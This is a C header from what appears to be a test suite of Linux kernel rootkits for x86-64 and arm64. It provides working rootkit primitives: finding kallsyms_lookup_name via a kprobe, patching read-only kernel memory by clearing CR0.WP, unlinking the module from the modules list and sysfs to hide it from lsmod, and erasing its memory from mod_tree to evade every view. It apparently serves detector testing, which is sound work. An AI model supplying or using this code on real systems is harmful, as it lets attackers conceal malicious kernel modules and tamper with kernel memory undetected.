/* SPDX-License-Identifier: GPL-2.0 */
/*
 * rkit.h - what the test rootkits share: find an unexported symbol, write
 * read-only kernel memory, hide the module and link it back.
 *
 * rkit_lookup(name): kallsyms_lookup_name, itself found with a kprobe.
 * rkit_poke(dst, src, len): a copy with CR0.WP cleared, interrupts off (4 or
 * 8 bytes in one store).
 * rkit_hide(): unlink THIS_MODULE from the modules list (what lsmod reads)
 * and delete its kobject (/sys/module, module_kset's list); its memory
 * stays in mod_tree.  rkit_unhide(): link it back into both lists (not
 * sysfs); it then cannot be unloaded (its sysfs teardown would find no
 * directory).  rkit_tree_erase(): take the module's core memory out of
 * mod_tree too (the latched rb-tree of module addresses; what a rootkit
 * that hides from every view does); rkit_tree_insert() puts it back.
 * module_mutex is not exported: like real rootkits, these go
 * without it (the test guest is quiet while they run).  For testing only.
 *
 * RKIT_SYS(name): the symbol of syscall name's entry point
 * ("__x64_sys_sysinfo").  What differs by architecture (RKIT_SYS,
 * rkit_poke, finding the modules list's head and mod_tree) is under
 * CONFIG_X86 here and in arm64/rkit64.h for arm64; the rest is one.
 */
#ifndef RKIT_H
#define RKIT_H

#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/rbtree_latch.h>
#include <linux/rculist.h>
#include <linux/version.h>

static unsigned long __maybe_unused rkit_lookup(const char *name)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*kln)(const char *);

	if (register_kprobe(&kp))
		return 0;
	kln = (void *)kp.addr;
	unregister_kprobe(&kp);
	return kln(name);
}

static struct list_head *rkit_modules_head;	/* the kernel's `modules` */
static struct kset *rkit_kset;
static bool rkit_hidden;

#if defined(CONFIG_ARM64)
#include "arm64/rkit64.h"
#elif defined(CONFIG_X86)
#include <asm/special_insns.h>

#define RKIT_SYS(name) "__x64_sys_" #name

static inline void rkit_cr0_write(unsigned long v)
{
	asm volatile("mov %0, %%cr0" : "+r"(v) : : "memory");
}

static void __maybe_unused rkit_poke(void *dst, const void *src, size_t len)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = read_cr0();
	rkit_cr0_write(cr0 & ~X86_CR0_WP);
	if (len == 8)		/* a pointer, a gate half: one store */
		WRITE_ONCE(*(u64 *)dst, *(const u64 *)src);
	else if (len == 4)	/* a rel32 */
		WRITE_ONCE(*(u32 *)dst, *(const u32 *)src);
	else
		memcpy(dst, src, len);
	rkit_cr0_write(cr0);
	local_irq_restore(flags);
}

/* the one entry of the modules list that lies in the kernel image */
static struct list_head *rkit_find_head(void)
{
	struct list_head *p;
	int n = 0;

	for (p = THIS_MODULE->list.next; p != &THIS_MODULE->list && n < 100000; p = p->next, n++)
		if ((unsigned long)p < MODULES_VADDR || (unsigned long)p >= MODULES_END)
			return p;
	return NULL;
}

/* mod_tree: a kallsyms symbol on x86-64 (CONFIG_KALLSYMS_ALL) */
static struct latch_tree_root *rkit_find_mod_tree(void)
{
	return (void *)rkit_lookup("mod_tree");
}

#else
#error "rkit.h: the test rootkits are for x86-64 and arm64"
#endif

static int __maybe_unused rkit_hide(void)
{
	rkit_modules_head = rkit_find_head();
	rkit_kset = THIS_MODULE->mkobj.kobj.kset;
	if (!rkit_modules_head || !rkit_kset)
		return -ENOENT;
	kset_get(rkit_kset);		/* kobject_del drops the kobject's reference */
	list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	rkit_hidden = true;
	return 0;
}

static void __maybe_unused rkit_unhide(void)
{
	if (!rkit_hidden)
		return;
	list_add_tail_rcu(&THIS_MODULE->list, rkit_modules_head);
	spin_lock(&rkit_kset->list_lock);
	list_add_tail(&THIS_MODULE->mkobj.kobj.entry, &rkit_kset->list);
	spin_unlock(&rkit_kset->list_lock);
	rkit_hidden = false;
}

static struct latch_tree_root *rkit_mod_tree;	/* mod_tree's first member */

#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
/* 6.4+: a node per kind of module memory (mem[]), each in the tree */
static __always_inline struct module_memory *rkit_mtn_mem(struct latch_tree_node *n)
{
	return container_of(n, struct module_memory, mtn.node);
}

static __always_inline unsigned long rkit_mtn_base(struct latch_tree_node *n)
{
	return (unsigned long)rkit_mtn_mem(n)->base;
}

static __always_inline unsigned long rkit_mtn_size(struct latch_tree_node *n)
{
	return rkit_mtn_mem(n)->size;
}
#else
static __always_inline unsigned long rkit_mtn_base(struct latch_tree_node *n)
{
	return (unsigned long)container_of(n, struct mod_tree_node, node)->mod->core_layout.base;
}

static __always_inline unsigned long rkit_mtn_size(struct latch_tree_node *n)
{
	return container_of(n, struct mod_tree_node, node)->mod->core_layout.size;
}
#endif

static __always_inline bool rkit_mtn_less(struct latch_tree_node *a, struct latch_tree_node *b)
{
	return rkit_mtn_base(a) < rkit_mtn_base(b);
}

static __always_inline int rkit_mtn_comp(void *key, struct latch_tree_node *n)
{
	unsigned long v = (unsigned long)key, s = rkit_mtn_base(n);

	if (v < s)
		return -1;
	return v >= s + rkit_mtn_size(n);
}

static const struct latch_tree_ops rkit_mtn_ops = {
	.less = rkit_mtn_less,
	.comp = rkit_mtn_comp,
};

static int __maybe_unused rkit_tree_erase(void)
{
	rkit_mod_tree = rkit_find_mod_tree();
	if (!rkit_mod_tree)
		return -ENOENT;
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
	for (int t = MOD_TEXT; t <= MOD_RO_AFTER_INIT; t++)	/* the core kinds */
		if (THIS_MODULE->mem[t].size)
			latch_tree_erase(&THIS_MODULE->mem[t].mtn.node, rkit_mod_tree, &rkit_mtn_ops);
#else
	latch_tree_erase(&THIS_MODULE->core_layout.mtn.node, rkit_mod_tree, &rkit_mtn_ops);
#endif
	return 0;
}

static void __maybe_unused rkit_tree_insert(void)
{
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
	for (int t = MOD_TEXT; rkit_mod_tree && t <= MOD_RO_AFTER_INIT; t++)
		if (THIS_MODULE->mem[t].size)
			latch_tree_insert(&THIS_MODULE->mem[t].mtn.node, rkit_mod_tree, &rkit_mtn_ops);
#else
	if (rkit_mod_tree)
		latch_tree_insert(&THIS_MODULE->core_layout.mtn.node, rkit_mod_tree, &rkit_mtn_ops);
#endif
	rkit_mod_tree = NULL;
}

#endif
